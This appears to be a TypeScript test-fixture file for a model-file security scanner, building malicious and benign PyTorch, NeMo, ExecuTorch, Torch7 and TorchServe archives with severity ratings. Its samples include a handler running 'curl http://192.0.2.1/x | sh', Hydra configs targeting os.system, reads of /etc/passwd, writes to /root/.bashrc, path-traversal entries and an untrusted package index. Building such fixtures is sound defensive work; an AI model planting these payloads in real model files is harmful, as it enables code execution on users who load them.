// PyTorch beyond its pickles: programs of TorchScript, packages, exported programs, ExecuTorch, Torch7, and the archives of NeMo and
// TorchServe.

import { assembleFlat, type FlatPlan } from '../../../../packages/testkit/src/flat-assembler.ts';
import { assemblePickle } from '../../../../packages/testkit/src/pickle-assembler.ts';
import { assembleTar } from '../../../../packages/testkit/src/tar-assembler.ts';
import { assembleTorch7, TORCH7_NETWORK } from '../../../../packages/testkit/src/torch7-assembler.ts';
import { assembleZip, type ZipEntry } from '../../../../packages/testkit/src/zip-assembler.ts';
import { HARMFUL_PICKLE, type ModelGroup, modelGroup, PROGRAM, PYTHON, rowsOf, SCRIPT } from './model-row.ts';

const WEIGHTS = assemblePickle('PROTO 2 | EMPTY_DICT | STOP');
const zip = (...entries: readonly (readonly [string, string | Uint8Array])[]) =>
  assembleZip({ entries: entries.map(([name, data]): ZipEntry => ({ name, data })) });

const script = (body: string, constants: Uint8Array = assemblePickle('PROTO 2 | EMPTY_TUPLE | STOP')) =>
  zip(
    ['m/data.pkl', WEIGHTS],
    [
      'm/code/__torch__.py',
      `class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    ${body}\n    return x\n`,
    ],
    ['m/constants.pkl', constants],
    ['m/version', '3\n'],
  );

const exported = (...targets: readonly string[]) =>
  JSON.stringify({
    graph_module: {
      graph: {
        inputs: [],
        outputs: [],
        nodes: targets.map((target) => ({ target, inputs: [], outputs: [], metadata: {} })),
        tensor_values: {},
      },
      signature: { input_specs: [], output_specs: [] },
    },
    opset_version: { aten: 10 },
    schema_version: { major: 8, minor: 2 },
  });
const pt2 = (targets: readonly string[], ...more: readonly (readonly [string, string | Uint8Array])[]) =>
  zip(
    ['m/archive_format', 'pt2'],
    ['m/archive_version', '0'],
    ['m/models/model.json', exported(...targets)],
    ...more,
  );

const executorch = (parts: FlatPlan) =>
  assembleFlat({ 1: { tables: [{ 0: { text: 'forward' }, ...parts }] } }, 'ET12');

const checkpoint = zip(['archive/data.pkl', WEIGHTS], ['archive/version', '3\n']);
const harmfulCheckpoint = zip(['archive/data.pkl', HARMFUL_PICKLE], ['archive/version', '3\n']);
const nemo = (configuration: string, more: Parameters<typeof assembleTar>[0] = []) =>
  assembleTar([
    { name: 'model_config.yaml', data: configuration },
    { name: 'model_weights.ckpt', data: checkpoint },
    ...more,
  ]);
const NEMO =
  'target: nemo.collections.asr.models.ctc_models.EncDecCTCModel\nencoder:\n  _target_: torch.nn.Linear\n  in_features: 2\n  out_features: 2\n';

const archive = (
  model: Readonly<Record<string, string>>,
  ...more: readonly (readonly [string, string | Uint8Array])[]
) =>
  zip(
    [
      'MAR-INF/MANIFEST.json',
      JSON.stringify({
        createdOn: '01/01/2026 00:00:00',
        runtime: 'python',
        model: {
          modelName: 'm',
          serializedFile: 'm.pt',
          handler: 'image_classifier',
          modelVersion: '1.0',
          ...model,
        },
        archiverVersion: '0.8.2',
      }),
    ],
    ...more,
  );

export const torch: readonly ModelGroup[] = [
  modelGroup('torchscript', [
    ...rowsOf(
      [
        ['maps a file into a tensor', 'high', 'x = torch.from_file("/etc/passwd", False, 10)'],
        ['saves a tensor', 'high', 'ops.aten.save([x], "/root/.bashrc")'],
        ['an operation of the author', 'low', 'x = ops.own.run(x)'],
        ['computes', 'honest', 'x = torch.relu(x)'],
      ] as const,
      'm.pt',
      (body) => script(body),
    ),
    ['a call in its constants', 'medium', 'm.pt', script('x = torch.relu(x)', HARMFUL_PICKLE)],
    [
      'a call in its data',
      'critical',
      'm.pt',
      zip(
        ['m/data.pkl', HARMFUL_PICKLE],
        ['m/code/__torch__.py', 'class M(Module):\n  __parameters__ = []\n'],
        ['m/constants.pkl', WEIGHTS],
        ['m/version', '3\n'],
      ),
    ],
  ]),
  modelGroup('torch-package', [
    [
      'a module that runs a command',
      'high',
      'm.pt',
      zip(
        ['m/.data/extern_modules', 'torch\n'],
        ['m/.data/version', '6\n'],
        ['m/model.py', `${PYTHON}\n`],
        ['m/model/model.pkl', WEIGHTS],
      ),
    ],
    [
      'a pickle that runs a command',
      'critical',
      'm.pt',
      zip(
        ['m/.data/extern_modules', 'torch\n'],
        ['m/.data/version', '6\n'],
        ['m/model/model.pkl', HARMFUL_PICKLE],
      ),
    ],
    [
      'a module that computes',
      'honest',
      'm.pt',
      zip(
        ['m/.data/extern_modules', 'torch\n'],
        ['m/.data/version', '6\n'],
        ['m/net.py', 'import torch\n\n\nclass Net(torch.nn.Module):\n    pass\n'],
        ['m/model/model.pkl', WEIGHTS],
      ),
    ],
  ]),
  modelGroup('pt2', [
    ['a compiled library', 'high', 'm.pt2', pt2([], ['m/data/aotinductor/model/model.so', PROGRAM])],
    ['a function of os', 'high', 'm.pt2', pt2(['torch.os.system'])],
    ['maps a file into a tensor', 'high', 'm.pt2', pt2(['torch.ops.aten.from_file.default'])],
    ['computes', 'honest', 'm.pt2', pt2(['torch.ops.aten.relu.default'])],
  ]),
  modelGroup('executorch', [
    [
      'maps a file into a tensor',
      'high',
      'm.pte',
      executorch({ 6: { tables: [{ 0: { text: 'aten::from_file' } }] } }),
    ],
    [
      'an operation of the author',
      'low',
      'm.pte',
      executorch({ 6: { tables: [{ 0: { text: 'own::run' } }] } }),
    ],
    ['a program behind it', 'high', 'm.pte', Buffer.concat([executorch({}), PROGRAM])],
    [
      'computes',
      'honest',
      'm.pte',
      executorch({ 6: { tables: [{ 0: { text: 'aten::add' }, 1: { text: 'out' } }] } }),
    ],
  ]),
  modelGroup('torch7', [
    [
      'a function by value',
      'high',
      'm.t7',
      assembleTorch7({ table: [['f', { dumped: `\x1bLJ\x01${'\0'.repeat(32)}` }]] }),
    ],
    [
      'source of a function',
      'high',
      'm.t7',
      assembleTorch7({ table: [['f', { dumped: "os.execute('echo inert')" }]] }),
    ],
    [
      'a function as a key',
      'high',
      'm.t7',
      assembleTorch7({ table: [[{ dumped: `\x1bLJ\x01${'\0'.repeat(32)}` }, 1]] }),
    ],
    ['a network', 'honest', 'm.t7', assembleTorch7(TORCH7_NETWORK)],
    ['a network in text', 'honest', 'm.t7', assembleTorch7(TORCH7_NETWORK, 'text')],
  ]),
  modelGroup('nemo', [
    ['a function of os', 'critical', 'm.nemo', nemo('target: os.system\nparams: {command: id}\n')],
    [
      'a part that is a function of os',
      'critical',
      'm.nemo',
      nemo(`${NEMO}decoder:\n  _target_: os.system\n  command: id\n`),
    ],
    [
      'a part walked to through a module',
      'critical',
      'm.nemo',
      nemo(`${NEMO}decoder:\n  _target_: nemo.core.config.hydra_runner.os.system\n  command: id\n`),
    ],
    ['a file outside the folder', 'high', 'm.nemo', nemo(NEMO, [{ name: '../../evil.sh', data: SCRIPT }])],
    [
      'a checkpoint that runs a command',
      'critical',
      'm.nemo',
      assembleTar([
        { name: 'model_config.yaml', data: NEMO },
        { name: 'model_weights.ckpt', data: harmfulCheckpoint },
      ]),
    ],
    ['a model', 'honest', 'm.nemo', nemo(NEMO)],
  ]),
  modelGroup('torchserve', [
    [
      'a handler that runs a command',
      'high',
      'm.mar',
      archive(
        { handler: 'handler.py' },
        ['handler.py', "import os\nos.system('curl http://192.0.2.1/x | sh')\n"],
        ['m.pt', checkpoint],
      ),
    ],
    [
      'a handler outside the folder',
      'high',
      'm.mar',
      archive({ handler: '../../evil.py' }, ['m.pt', checkpoint]),
    ],
    ['weights that run a command', 'critical', 'm.mar', archive({}, ['m.pt', harmfulCheckpoint])],
    [
      'a file outside the folder',
      'high',
      'm.mar',
      archive({}, ['m.pt', checkpoint], ['../../x.py', 'x = 1\n']),
    ],
    [
      'requirements from elsewhere',
      'medium',
      'm.mar',
      archive(
        { requirementsFile: 'requirements.txt' },
        ['m.pt', checkpoint],
        ['requirements.txt', '--index-url http://192.0.2.1/simple\nsomething\n'],
      ),
    ],
    ['a model with a handler of TorchServe', 'honest', 'm.mar', archive({}, ['m.pt', checkpoint])],
  ]),
];
